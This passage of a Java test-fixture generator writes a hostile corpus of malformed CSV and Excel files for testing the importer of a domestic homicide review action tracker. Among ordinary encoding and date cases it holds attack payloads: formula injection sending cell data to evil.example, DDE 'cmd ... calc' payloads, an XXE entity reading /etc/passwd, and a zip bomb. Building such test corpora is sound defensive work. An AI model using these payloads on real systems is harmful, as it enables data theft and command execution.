package org.dhrtracker.hostile;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.Arrays;
import java.util.Date;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Random;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;

import org.apache.poi.hssf.usermodel.HSSFWorkbook;
import org.apache.poi.poifs.crypt.EncryptionInfo;
import org.apache.poi.poifs.crypt.EncryptionMode;
import org.apache.poi.poifs.crypt.Encryptor;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.apache.poi.ss.usermodel.CellStyle;
import org.apache.poi.ss.usermodel.SheetVisibility;
import org.apache.poi.ss.util.CellRangeAddress;
import org.apache.poi.xssf.usermodel.XSSFCell;
import org.apache.poi.xssf.usermodel.XSSFRow;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.condition.EnabledIfSystemProperty;

/**
 * Writes the hostile corpus under src/test/resources/hostile/ (returns/, registers/, signoffs/):
 * every file of it, text and binary, so that it can be reviewed here and written again. Workbooks
 * are written with POI as Excel would write them, or as raw zip parts where the trick is in the XML
 * (no saved formula result, a DOCTYPE, a zip bomb, a 50 MB cell). What each file must give is in
 * hostile/cases.csv, written by hand.
 *
 * <p>Run: {@code mvn -o test -Dtest=HostileCorpusFiles -Ddhr.corpus.write=true}.
 */
public final class HostileCorpusFiles {

    /** In every narrative cell of the corpus: no log line may ever contain it. */
    public static final String MARK = "NARRATIVE-7f3a";

    static final Path DIR = Path.of("src", "test", "resources", "hostile");

    static final String HEADER = "Review,Action ref,Agency,As at,Status,Progress,Evidence,Revised target date,Completion date,Reported by";
    static final String ROW_16 = "DHR1,16,POLICE,2016-03-31,In progress,DASH card reprint ordered " + MARK + ",Draft card v3 " + MARK
            + ",2016-09-30,,DA Strategic Lead";
    static final String ROW_28 = "DHR1,28-POLICE,POLICE,2016-03-31,Completed,Link live on the force website " + MARK
            + ",Screenshot of the page " + MARK + ",,2016-03-15,DA Strategic Lead";
    static final String BASE = HEADER + "\n" + ROW_16 + "\n" + ROW_28 + "\n";
    /** Characters Windows-1252 has and ASCII has not: right quote, en dash, e acute, curly double quotes. */
    static final String CURLY = HEADER + "\r\n"
            + "DHR1,16,POLICE,2016-03-31,In progress,Met Children\u2019s Services \u2013 caf\u00e9 " + MARK + ",\u201cDraft card\u201d v3 "
            + MARK + ",2016-09-30,,DA Strategic Lead\r\n" + ROW_28 + "\r\n";

    static final String REGISTER_HEADER = "Review,Partnership,Partnership name,Review title,Recommendation,Source,Owning body,Scope,"
            + "Recommendation text,Action ref,Agency,Agency name,Action,Evidence of achievement,Implementation lead,Target date,Due date";
    static final String REVIEW_9 = "DHR9,NABSCOP,Nuneaton and Bedworth Safer Communities Partnership,Hostile Review (DHR9),";
    static final String REC_1 = "1,Overview,ALL AGENCIES,Local,\"All agencies to adopt the \u201cask twice\u201d card \u2013 " + MARK + "\",";
    static final String REGISTER_ROW_1 = REVIEW_9 + REC_1 + "1-POLICE,POLICE,Warwickshire Police,Reprint the card " + MARK
            + ",New card issued " + MARK + ",DA Strategic Lead,Dec 2016,";
    static final String REGISTER_ROW_2 = REVIEW_9 + REC_1 + "1-CHILDRENS,CHILDRENS,Warwickshire County Council \u2013 Children\u2019s Services,"
            + "Brief social workers " + MARK + ",Briefing notes " + MARK + ",,March 2017,2017-03-31";
    static final String REGISTER = REGISTER_HEADER + "\n" + REGISTER_ROW_1 + "\n" + REGISTER_ROW_2 + "\n";

    static final String SIGNOFF_HEADER = "Review,Action ref,Decision,Reason,Decided by,Decided on";
    static final String SIGNOFF_ROW = "DHR1,28-POLICE,Reject,The screenshot doesn\u2019t show the link \u2013 " + MARK + ",DHR Coordinator,2016-04-15";

    private static final Charset CP1252 = Charset.forName("windows-1252");

    private HostileCorpusFiles() {
    }

    public static void main(String[] args) throws Exception {
        write(args.length > 0 ? Path.of(args[0]) : DIR);
    }

    /** Writes the corpus when asked to: {@code -Ddhr.corpus.write=true}. */
    @Test
    @EnabledIfSystemProperty(named = "dhr.corpus.write", matches = "true")
    void writeCorpus() throws Exception {
        write(DIR);
    }

    static void write(Path dir) throws Exception {
        returns(dir.resolve("returns"));
        registers(dir.resolve("registers"));
        signOffs(dir.resolve("signoffs"));
    }

    private static void returns(Path d) throws Exception {
        Files.createDirectories(d);
        // Encodings
        text(d, "utf8.csv", BASE, StandardCharsets.UTF_8, false);
        text(d, "utf8-bom-crlf.csv", CURLY, StandardCharsets.UTF_8, true);
        text(d, "windows-1252.csv", CURLY, CP1252, false);
        text(d, "utf16le-bom.csv", CURLY, StandardCharsets.UTF_16LE, true);
        text(d, "utf16be-bom.csv", CURLY, StandardCharsets.UTF_16BE, true);
        text(d, "utf16le-no-bom.csv", CURLY, StandardCharsets.UTF_16LE, false);
        // 0x81: one of the five bytes Windows-1252 leaves undefined, on line 3.
        int at = CURLY.indexOf("Link live");
        bytes(d, "undefined-1252-byte.csv", concat(CURLY.substring(0, at).getBytes(CP1252), new byte[] {(byte) 0x81},
                CURLY.substring(at).getBytes(CP1252)));
        bytes(d, "utf8-bom-then-1252.csv", concat(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF},
                CURLY.getBytes(CP1252)));
        text(d, "nul-in-cell.csv", BASE.replace("Draft card v3", "Draft card\u0000 v3"), StandardCharsets.UTF_8, false);
        // Headers and rows
        text(d, "missing-column.csv", BASE.replace(",As at,", ",").replace(",2016-03-31,", ","), StandardCharsets.UTF_8, false);
        text(d, "renamed-header.csv", BASE.replace("Action ref", "Action Reference"), StandardCharsets.UTF_8, false);
        text(d, "duplicated-header.csv", BASE.replace("Reported by", "Status").replace("DA Strategic Lead", "Completed"),
                StandardCharsets.UTF_8, false);
        text(d, "extra-columns.csv", HEADER + ",Notes,Recommendation (for reference)\n" + ROW_16 + ",Ring back " + MARK + ",Rec 16 "
                + MARK + "\n" + ROW_28 + ",,\n", StandardCharsets.UTF_8, false);
        text(d, "blank-rows.csv", "\n" + HEADER + ",,,\n\n" + ROW_16 + ",,,\n,,,,,,,,,\n   ,  , ,\n" + ROW_28 + "\n\n\n,,\n",
                StandardCharsets.UTF_8, false);
        text(d, "semicolons.csv", BASE.replace(',', ';'), StandardCharsets.UTF_8, false);
        text(d, "unclosed-quote.csv", HEADER + "\n" + ROW_16 + "\n" + ROW_28.replace("Link live", "\"Link live") + "\n",
                StandardCharsets.UTF_8, false);
        text(d, "text-after-quote.csv", HEADER + "\n" + ROW_16.replace("DASH card reprint ordered " + MARK,
                "\"DASH card\" reprint ordered " + MARK) + "\n", StandardCharsets.UTF_8, false);
        text(d, "long-cell.csv", HEADER + "\n" + ROW_16.replace("Draft card v3 " + MARK, MARK + " " + "e".repeat(40_000 - MARK.length() - 1))
                + "\n", StandardCharsets.UTF_8, false);
        text(d, "reported-by-too-long.csv", HEADER + "\n" + ROW_16.replace("DA Strategic Lead", "L".repeat(400)) + "\n",
                StandardCharsets.UTF_8, false);
        text(d, "too-many-cells.csv", HEADER + "\n" + ROW_16 + ",".repeat(20_000) + "\n", StandardCharsets.UTF_8, false);
        text(d, "unanswered-rows.csv", HEADER + "\n" + ROW_16 + "\nDHR1,14,POLICE,2016-03-31,,,,,,DA Strategic Lead\n"
                + "DHR1,15,POLICE,2016-03-31,,,,,,\n", StandardCharsets.UTF_8, false);
        // Dates
        text(d, "date-text-forms.csv", HEADER + "\n"
                + "DHR1,16,POLICE,31/03/2016,In progress,Card ordered " + MARK + ",,30 Sept 2016,,\n"
                + "DHR1,28-POLICE,POLICE,31/3/2016,Completed,Link live " + MARK + ",Screenshot " + MARK + ",,15 Mar 2016,\n"
                + "DHR1,14,POLICE,31 March 2016,In progress,Training booked " + MARK + ",,,,\n"
                + "DHR1,15,POLICE,31 mar 2016,Not started,,,2016-6-30,,\n", StandardCharsets.UTF_8, false);
        text(d, "date-two-digit-year.csv", BASE.replace("DHR1,16,POLICE,2016-03-31", "DHR1,16,POLICE,31/03/16"), StandardCharsets.UTF_8,
                false);
        text(d, "date-month-first.csv", BASE.replace("DHR1,16,POLICE,2016-03-31", "DHR1,16,POLICE,03/31/2016"), StandardCharsets.UTF_8,
                false);
        text(d, "date-serial.csv", BASE.replace("DHR1,16,POLICE,2016-03-31", "DHR1,16,POLICE,42460"), StandardCharsets.UTF_8, false);
        // Access and meaning
        text(d, "other-agency.csv", BASE.replace("DHR1,28-POLICE,POLICE", "DHR1,28-GEH,POLICE"), StandardCharsets.UTF_8, false);
        text(d, "unknown-review.csv", BASE.replace("DHR1,16,", "DHR9,16,"), StandardCharsets.UTF_8, false);
        text(d, "unknown-action.csv", BASE.replace("DHR1,16,", "DHR1,99z,"), StandardCharsets.UTF_8, false);
        text(d, "zero-width-ref.csv", BASE.replace("DHR1,16,", "DHR1,16\u200b,"), StandardCharsets.UTF_8, false);
        text(d, "homoglyph-agency.csv", BASE.replace("DHR1,16,POLICE", "DHR1,16,\u0420OLICE"), StandardCharsets.UTF_8, false);
        text(d, "future-as-at.csv", BASE.replace("DHR1,16,POLICE,2016-03-31", "DHR1,16,POLICE,2099-12-31"), StandardCharsets.UTF_8, false);
        text(d, "completed-without-evidence.csv", HEADER + "\n" + ROW_28.replace("Screenshot of the page " + MARK, "") + "\n",
                StandardCharsets.UTF_8, false);
        text(d, "formula-injection.csv", HEADER + "\n"
                + "DHR1,16,POLICE,2016-03-31,In progress,\"=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Click me\"\") " + MARK
                + "\",+44 7700 900123 " + MARK + ",,,\n"
                + "DHR1,28-POLICE,POLICE,2016-03-31,Completed,- done " + MARK + ",@SUM(1+1)*cmd|' /C calc'!A0 " + MARK + ",,,\n",
                StandardCharsets.UTF_8, false);
        // Not what the name says
        text(d, "return.txt", BASE, StandardCharsets.UTF_8, false);
        text(d, "csv-named-xlsx.xlsx", BASE, StandardCharsets.UTF_8, false);
        text(d, "web-page.xlsx", "<html><body><table><tr><td>Review</td><td>Action ref</td></tr></table></body></html>\n",
                StandardCharsets.UTF_8, false);
        text(d, "pdf-named-csv.csv", "%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",
                StandardCharsets.US_ASCII, false);
        bytes(d, "empty.csv", new byte[0]);

        // Workbooks
        write(d, "base.xlsx", returnWorkbook("Return"));
        bytes(d, "xlsx-named-csv.csv", Files.readAllBytes(d.resolve("base.xlsx")));
        write(d, "dates.xlsx", datesWorkbook());
        write(d, "date-serial-general.xlsx", serialWorkbook());
        write(d, "date-1904.xlsx", date1904Workbook());
        write(d, "formulas-cached.xlsx", cachedFormulas());
        rawXlsx(d, "formula-no-result.xlsx", sheet(headerRow() + "<row r=\"2\">" + inline("A2", "DHR1") + inline("B2", "16")
                + inline("C2", "POLICE") + inline("D2", "2016-03-31") + "<c r=\"E2\" t=\"str\"><f>IF(1=1,\"In progress\",\"\")</f></c>"
                + inline("F2", "Card ordered " + MARK) + "</row>"), null, Deflater.DEFAULT_COMPRESSION);
        rawXlsx(d, "formula-error.xlsx", sheet(headerRow() + "<row r=\"2\">" + inline("A2", "DHR1") + inline("B2", "16")
                + inline("C2", "POLICE") + inline("D2", "2016-03-31") + inline("E2", "In progress") + inline("F2", "Card ordered " + MARK)
                + "<c r=\"H2\" t=\"e\"><f>#REF!+1</f><v>#REF!</v></c></row>"), null, Deflater.DEFAULT_COMPRESSION);
        rawXlsx(d, "cell-beyond-last-column.xlsx", sheet(headerRow() + "<row r=\"2\">" + inline("A2", "DHR1") + inline("B2", "16")
                + inline("C2", "POLICE") + inline("D2", "2016-03-31") + inline("E2", "In progress") + inline("XFE2", "beyond XFD")
                + "</row>"), null, Deflater.DEFAULT_COMPRESSION);
        write(d, "control-character.xlsx", controlCharacterWorkbook());
        write(d, "merged-cells.xlsx", mergedWorkbook());
        write(d, "hidden-lists-sheet.xlsx", hiddenSheetWorkbook(SheetVisibility.HIDDEN, false));
        write(d, "hidden-sheet-updates.xlsx", hiddenSheetWorkbook(SheetVisibility.HIDDEN, true));
        write(d, "very-hidden-sheet-updates.xlsx", hiddenSheetWorkbook(SheetVisibility.VERY_HIDDEN, true));
        write(d, "instructions-first.xlsx", instructionsFirst());
        write(d, "two-return-sheets.xlsx", twoReturnSheets());
        write(d, "title-above-header.xlsx", titleAboveHeader());
        write(d, "sheet-protected.xlsx", protectedWorkbook());
        write(d, "formula-injection.xlsx", injectionWorkbook());
        encrypted(d.resolve("encrypted.xlsx"));
        oldXls(d.resolve("old-format.xls"));
        byte[] whole = Files.readAllBytes(d.resolve("base.xlsx"));
        bytes(d, "truncated.xlsx", Arrays.copyOf(whole, whole.length * 3 / 5));
        zipBomb(d, "zip-bomb.xlsx");
        xxe(d);
        bigCell(d, "cell-50mb.xlsx");
    }

    private static void registers(Path d) throws Exception {
        Files.createDirectories(d);
        text(d, "windows-1252.csv", REGISTER.replace("\n", "\r\n"), CP1252, false);
        text(d, "utf16le-bom.csv", REGISTER, StandardCharsets.UTF_16LE, true);
        text(d, "renamed-headers.csv", REGISTER.replace(",Action ref,Agency,", ",Action Reference,Agency Code,"), StandardCharsets.UTF_8, false);
        text(d, "missing-column.csv", REGISTER_HEADER.replace(",Action,", ",") + "\n"
                + REGISTER_ROW_1.replace(",Reprint the card " + MARK, "") + "\n", StandardCharsets.UTF_8, false);
        text(d, "blank-rows.csv", "\n\n" + REGISTER_HEADER + ",,\n" + REGISTER_ROW_1 + ",,\n,,,,,,\n\n" + REGISTER_ROW_2 + "\n\n \n",
                StandardCharsets.UTF_8, false);
        text(d, "lead-too-long.csv", REGISTER_HEADER + "\n" + REGISTER_ROW_1.replace("DA Strategic Lead", "L".repeat(301)) + "\n",
                StandardCharsets.UTF_8, false);
        text(d, "nul-in-action.csv", REGISTER.replace("Reprint the card", "Reprint\u0000 the card"), StandardCharsets.UTF_8, false);
        text(d, "formula-injection.csv", REGISTER.replace("Reprint the card " + MARK, "\"=cmd|' /C calc'!A0 " + MARK + "\""),
                StandardCharsets.UTF_8, false);
        text(d, "bad-due-date.csv", REGISTER.replace("2017-03-31", "31/04/2017"), StandardCharsets.UTF_8, false);
        write(d, "merged-recommendation.xlsx", registerWorkbook(true, false, false));
        write(d, "sheets-notes-register-hidden.xlsx", registerWorkbook(false, true, false));
        write(d, "due-dates-1904.xlsx", registerWorkbook(false, false, true));
        write(d, "due-date-serial.xlsx", registerSerialWorkbook());
        Files.copy(d.resolve("sheets-notes-register-hidden.xlsx"), d.resolve("xlsx-named-csv.csv"),
                java.nio.file.StandardCopyOption.REPLACE_EXISTING);
        rawXlsx(d, "xxe.xlsx", doctype("worksheet", "file:///etc/passwd") + sheetBody("<row r=\"1\">" + inline("A1", "Review")
                + "<c r=\"B1\" t=\"inlineStr\"><is><t>&xxe;</t></is></c></row>"), null, Deflater.DEFAULT_COMPRESSION);
    }

    private static void signOffs(Path d) throws Exception {
        Files.createDirectories(d);
        text(d, "claims.csv", BASE, StandardCharsets.UTF_8, false);
        text(d, "windows-1252.csv", SIGNOFF_HEADER + "\r\n" + SIGNOFF_ROW + "\r\n", CP1252, false);
        text(d, "future-decision.csv", SIGNOFF_HEADER + "\n" + SIGNOFF_ROW.replace("2016-04-15", "2099-01-01") + "\n",
                StandardCharsets.UTF_8, false);
        try (XSSFWorkbook wb = new XSSFWorkbook()) {
            wb.createSheet("Instructions").createRow(0).createCell(0).setCellValue("Decide each claim on the Sign-off sheet.");
            fill(wb, wb.createSheet("Sign-off"), signOffRows());
            write(d, "instructions-first.xlsx", wb);
        }
        try (XSSFWorkbook wb = new XSSFWorkbook()) {
            fill(wb, wb.createSheet("Sign-off"), signOffRows());
            fill(wb, wb.createSheet("Draft"), signOffRows());
            wb.setSheetVisibility(1, SheetVisibility.HIDDEN);
            write(d, "hidden-draft-sheet.xlsx", wb);
        }
    }

    private static Object[][] signOffRows() {
        return new Object[][] {SIGNOFF_HEADER.split(","), {"DHR1", "28-POLICE", "Accept", "", "DHR Coordinator", LocalDate.of(2016, 4, 15)}};
    }

    // ---- workbooks written as Excel writes them (POI) ----

    /** The two rows of BASE as cells; dates as date cells. */
    private static Object[][] baseRows() {
        return new Object[][] {HEADER.split(","),
            {"DHR1", "16", "POLICE", LocalDate.of(2016, 3, 31), "In progress", "DASH card reprint ordered " + MARK, "Draft card v3 " + MARK,
                LocalDate.of(2016, 9, 30), null, "DA Strategic Lead"},
            {"DHR1", "28-POLICE", "POLICE", LocalDate.of(2016, 3, 31), "Completed", "Link live on the force website " + MARK,
                "Screenshot of the page " + MARK, null, LocalDate.of(2016, 3, 15), "DA Strategic Lead"}};
    }

    private static XSSFWorkbook returnWorkbook(String sheet) {
        XSSFWorkbook wb = new XSSFWorkbook();
        fill(wb, wb.createSheet(sheet), baseRows());
        return wb;
    }


    /** Real date cells in several display formats (one shown month first, as a US Excel would), and text dates. */
    private static XSSFWorkbook datesWorkbook() {
        XSSFWorkbook wb = new XSSFWorkbook();
        XSSFSheet s = wb.createSheet("Return");
        fill(wb, s, new Object[][] {HEADER.split(","),
            {"DHR1", "16", "POLICE", LocalDate.of(2016, 3, 31), "In progress", "Card ordered " + MARK, null, LocalDate.of(2016, 9, 30)},
            {"DHR1", "28-POLICE", "POLICE", LocalDate.of(2016, 3, 31), "Completed", "Link live " + MARK, "Screenshot " + MARK, null,
                LocalDate.of(2016, 3, 15)},
            {"DHR1", "14", "POLICE", LocalDate.of(2016, 3, 31), "In progress", "Training booked " + MARK},
            {"DHR1", "15", "POLICE", "31/03/2016", "Not started", null, null, "30 June 2016"}});
        format(wb, s.getRow(1).getCell(3), "d mmmm yyyy");
        format(wb, s.getRow(1).getCell(7), "mm/dd/yyyy");
        format(wb, s.getRow(2).getCell(3), "yyyy-mm-dd");
        format(wb, s.getRow(2).getCell(8), "d-mmm-yy");
        format(wb, s.getRow(3).getCell(3), "dddd, d mmmm yyyy");
        return wb;
    }

    /** As at holding 42460 (31 March 2016) formatted General: a serial number, not a date, as Excel shows it. */
    private static XSSFWorkbook serialWorkbook() {
        XSSFWorkbook wb = returnWorkbook("Return");
        XSSFCell cell = wb.getSheetAt(0).getRow(1).getCell(3);
        cell.setCellValue(42460);
        cell.setCellStyle(wb.createCellStyle());
        return wb;
    }

    /**
     * The 1904 date system (Excel for Mac before 2011): the serials are written by hand, 1462 days
     * less than the 1900 system's, so Excel shows 31/03/2016, 30/09/2016 and 15/03/2016.
     */
    private static XSSFWorkbook date1904Workbook() {
        XSSFWorkbook wb = returnWorkbook("Return");
        set1904(wb);
        XSSFSheet s = wb.getSheetAt(0);
        s.getRow(1).getCell(3).setCellValue(42460 - 1462); // 2016-03-31
        s.getRow(1).getCell(7).setCellValue(42643 - 1462); // 2016-09-30
        s.getRow(2).getCell(3).setCellValue(42460 - 1462); // 2016-03-31
        s.getRow(2).getCell(8).setCellValue(42444 - 1462); // 2016-03-15
        return wb;
    }

    /** Formulas whose results Excel saved: a date, a status and a progress text. */
    private static XSSFWorkbook cachedFormulas() {
        XSSFWorkbook wb = returnWorkbook("Return");
        XSSFRow r = wb.getSheetAt(0).getRow(1);
        CellStyle date = r.getCell(3).getCellStyle();
        r.getCell(3).setCellFormula("DATE(2016,3,31)");
        r.getCell(3).setCellStyle(date);
        r.getCell(4).setCellFormula("IF(1=1,\"In progress\",\"Not started\")");
        r.getCell(5).setCellFormula("\"DASH card \"&\"reprint ordered " + MARK + "\"");
        wb.getCreationHelper().createFormulaEvaluator().evaluateAll();
        return wb;
    }

    /**
     * U+0001 in an Evidence cell, as Excel writes it in XML (which cannot hold it): _x0001_. (POI
     * would write the character itself, which is not XML.)
     */
    private static XSSFWorkbook controlCharacterWorkbook() {
        XSSFWorkbook wb = returnWorkbook("Return");
        wb.getSheetAt(0).getRow(2).getCell(6).setCellValue("Screenshot_x0001_ of the page " + MARK);
        return wb;
    }

    /** The Agency cells of both rows merged into one, as a tidy-minded user does. */
    private static XSSFWorkbook mergedWorkbook() {
        XSSFWorkbook wb = returnWorkbook("Return");
        wb.getSheetAt(0).getRow(2).getCell(2).setBlank();
        wb.getSheetAt(0).addMergedRegion(new CellRangeAddress(1, 2, 2, 2));
        return wb;
    }

    private static XSSFWorkbook hiddenSheetWorkbook(SheetVisibility visibility, boolean updates) {
        XSSFWorkbook wb = returnWorkbook("Return");
        XSSFSheet other = wb.createSheet(updates ? "Old return" : "Lists");
        if (updates) {
            fill(wb, other, new Object[][] {HEADER.split(","),
                {"DHR1", "16", "POLICE", LocalDate.of(2016, 2, 29), "Not started", "Old plan " + MARK}});
        } else {
            fill(wb, other, new Object[][] {{"Not started"}, {"In progress"}, {"Completed"}});
        }
        wb.setSheetVisibility(1, visibility);
        return wb;
    }

    private static XSSFWorkbook instructionsFirst() {
        XSSFWorkbook wb = new XSSFWorkbook();
        fill(wb, wb.createSheet("Instructions"), new Object[][] {{"How to fill in this return"}, {"Fill in the Return sheet."}});
        fill(wb, wb.createSheet("Return"), baseRows());
        return wb;
    }

    private static XSSFWorkbook twoReturnSheets() {
        XSSFWorkbook wb = returnWorkbook("Return");
        fill(wb, wb.createSheet("Return (2)"), baseRows());
        return wb;
    }

    private static XSSFWorkbook titleAboveHeader() {
        XSSFWorkbook wb = new XSSFWorkbook();
        Object[][] rows = baseRows();
        Object[][] titled = new Object[rows.length + 1][];
        titled[0] = new Object[] {"POLICE return, March 2016"};
        System.arraycopy(rows, 0, titled, 1, rows.length);
        fill(wb, wb.createSheet("Return"), titled);
        return wb;
    }

    private static XSSFWorkbook protectedWorkbook() {
        XSSFWorkbook wb = returnWorkbook("Return");
        wb.getSheetAt(0).protectSheet("secret");
        wb.lockStructure();
        return wb;
    }

    /** Formula-like text typed as text (Excel keeps it as text when the cell is formatted Text or starts with '). */
    private static XSSFWorkbook injectionWorkbook() {
        XSSFWorkbook wb = new XSSFWorkbook();
        fill(wb, wb.createSheet("Return"), new Object[][] {HEADER.split(","),
            {"DHR1", "16", "POLICE", LocalDate.of(2016, 3, 31), "In progress", "=HYPERLINK(\"http://evil.example\",\"Click\") " + MARK,
                "-1+1 " + MARK},
            {"DHR1", "28-POLICE", "POLICE", LocalDate.of(2016, 3, 31), "Completed", "@SUM(A1:A2) " + MARK, "+CHAR(61) " + MARK}});
        return wb;
    }

    /**
     * A register of DHR9 as a workbook: with the recommendation text merged down its two action
     * rows, or behind a Notes sheet with a hidden sheet of lists, or with due dates as date cells
     * in the 1904 date system (Excel shows 31/12/2016 and 31/03/2017).
     */
    private static XSSFWorkbook registerWorkbook(boolean merged, boolean sheets, boolean dates1904) {
        XSSFWorkbook wb = new XSSFWorkbook();
        if (sheets) {
            fill(wb, wb.createSheet("Notes"), new Object[][] {{"Register of DHR9, as agreed by the board"}});
        }
        XSSFSheet s = wb.createSheet("Register");
        Object[][] rows = {REGISTER_HEADER.split(","), csvCells(REGISTER_ROW_1), csvCells(REGISTER_ROW_2)};
        fill(wb, s, rows);
        if (merged) {
            s.getRow(2).getCell(8).setBlank();
            s.addMergedRegion(new CellRangeAddress(1, 2, 8, 8));
        }
        if (sheets) {
            fill(wb, wb.createSheet("Lists"), new Object[][] {{"Overview"}, {"IMR"}});
            wb.setSheetVisibility(2, SheetVisibility.HIDDEN);
        }
        if (dates1904) {
            set1904(wb);
            XSSFCell due1 = s.getRow(1).createCell(16);
            due1.setCellValue(42735 - 1462); // 2016-12-31
            format(wb, due1, "dd/mm/yyyy");
            XSSFCell due2 = s.getRow(2).getCell(16);
            due2.setCellValue(42825 - 1462); // 2017-03-31
            format(wb, due2, "dd/mm/yyyy");
        }
        return wb;
    }

    private static XSSFWorkbook registerSerialWorkbook() {
        XSSFWorkbook wb = registerWorkbook(false, false, false);
        XSSFCell due = wb.getSheetAt(0).getRow(2).getCell(16);
        due.setCellValue(42825);
        return wb;
    }

    /** The cells of one CSV line of this file (quoted cells hold no commas here except the one recommendation text). */
    private static Object[] csvCells(String line) {
        List<String> cells = new java.util.ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (char c : line.toCharArray()) {
            if (c == '"') {
                quoted = !quoted;
            } else if (c == ',' && !quoted) {
                cells.add(cell.toString());
                cell.setLength(0);
            } else {
                cell.append(c);
            }
        }
        cells.add(cell.toString());
        return cells.stream().map(c -> c.isEmpty() ? null : c).toArray();
    }

    private static void fill(XSSFWorkbook wb, XSSFSheet sheet, Object[][] rows) {
        CellStyle date = wb.createCellStyle();
        date.setDataFormat(wb.createDataFormat().getFormat("dd/mm/yyyy"));
        for (int r = 0; r < rows.length; r++) {
            XSSFRow row = sheet.createRow(r);
            for (int c = 0; c < rows[r].length; c++) {
                Object v = rows[r][c];
                if (v instanceof LocalDate d) {
                    XSSFCell cell = row.createCell(c);
                    cell.setCellValue(d);
                    cell.setCellStyle(date);
                } else if (v != null) {
                    row.createCell(c).setCellValue(v.toString());
                }
            }
        }
    }

    private static void set1904(XSSFWorkbook wb) {
        var workbook = wb.getCTWorkbook();
        (workbook.isSetWorkbookPr() ? workbook.getWorkbookPr() : workbook.addNewWorkbookPr()).setDate1904(true);
    }

    private static void format(XSSFWorkbook wb, XSSFCell cell, String format) {
        CellStyle style = wb.createCellStyle();
        style.setDataFormat(wb.createDataFormat().getFormat(format));
        cell.setCellStyle(style);
    }

    /** An XLSX encrypted with a password to open, as Excel's "Encrypt with Password" writes it (agile encryption). */
    private static void encrypted(Path file) throws Exception {
        try (POIFSFileSystem fs = new POIFSFileSystem()) {
            Encryptor encryptor = new EncryptionInfo(EncryptionMode.agile).getEncryptor();
            encryptor.confirmPassword("secret");
            try (XSSFWorkbook wb = returnWorkbook("Return"); OutputStream out = encryptor.getDataStream(fs)) {
                wb.write(out);
            }
            try (OutputStream out = Files.newOutputStream(file)) {
                fs.writeFilesystem(out);
            }
        }
    }

    private static void oldXls(Path file) throws IOException {
        try (HSSFWorkbook wb = new HSSFWorkbook(); OutputStream out = Files.newOutputStream(file)) {
            var row = wb.createSheet("Return").createRow(0);
            String[] header = HEADER.split(",");
            for (int i = 0; i < header.length; i++) {
                row.createCell(i).setCellValue(header[i]);
            }
            wb.write(out);
        }
    }

    /**
     * Writes a workbook with a fixed creation date and its zip entries dated 1980, so that writing
     * the corpus again gives the same bytes (the encrypted workbook excepted: its salt is random).
     */
    private static void write(Path dir, String name, XSSFWorkbook wb) throws IOException {
        ByteArrayOutputStream written = new ByteArrayOutputStream();
        try (wb) {
            wb.getProperties().getCoreProperties().setCreated(Optional.of(new Date(0)));
            wb.write(written);
        }
        Map<String, byte[]> parts = new LinkedHashMap<>();
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(written.toByteArray()))) {
            for (ZipEntry entry; (entry = in.getNextEntry()) != null;) {
                parts.put(entry.getName(), in.readAllBytes());
            }
        }
        zip(dir.resolve(name), parts, Deflater.DEFAULT_COMPRESSION);
    }

    // ---- workbooks written part by part, for tricks in the XML ----

    private static final String MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
    static final String XML = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n";

    static String headerRow() {
        StringBuilder row = new StringBuilder("<row r=\"1\">");
        String[] header = HEADER.split(",");
        for (int i = 0; i < header.length; i++) {
            row.append(inline((char) ('A' + i) + "1", header[i]));
        }
        return row.append("</row>").toString();
    }

    static String inline(String ref, String text) {
        return "<c r=\"" + ref + "\" t=\"inlineStr\"><is><t xml:space=\"preserve\">" + text.replace("&", "&amp;").replace("<", "&lt;")
                + "</t></is></c>";
    }

    static String sheet(String rows) {
        return XML + sheetBody(rows);
    }

    static String sheetBody(String rows) {
        return "<worksheet xmlns=\"" + MAIN + "\"><sheetData>" + rows + "</sheetData></worksheet>";
    }

    static String doctype(String root, String system) {
        return XML + "<!DOCTYPE " + root + " [<!ENTITY xxe SYSTEM \"" + system + "\">]>\n";
    }

    /** A one-sheet workbook from its sheet XML (and shared strings XML, if any), each part as given. */
    private static void rawXlsx(Path dir, String name, String sheetXml, String sharedStrings, int level) throws IOException {
        rawXlsx(dir, name, sheetXml.getBytes(StandardCharsets.UTF_8), sharedStrings, contentTypes(sharedStrings != null), level);
    }

    static String contentTypes(boolean sharedStrings) {
        return XML + "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
                + "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
                + "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
                + "<Override PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml\"/>"
                + "<Override PartName=\"/xl/worksheets/sheet1.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml\"/>"
                + (sharedStrings ? "<Override PartName=\"/xl/sharedStrings.xml\" "
                        + "ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml\"/>" : "")
                + "</Types>";
    }

    private static void rawXlsx(Path dir, String name, byte[] sheetXml, String sharedStrings, String contentTypes, int level)
            throws IOException {
        Map<String, byte[]> parts = parts(sheetXml, sharedStrings);
        parts.put("[Content_Types].xml", contentTypes.getBytes(StandardCharsets.UTF_8));
        zip(dir.resolve(name), parts, level);
    }

    /** The parts of a one-sheet workbook, by name, from its sheet XML (and shared strings XML, if any). */
    static Map<String, byte[]> parts(byte[] sheetXml, String sharedStrings) {
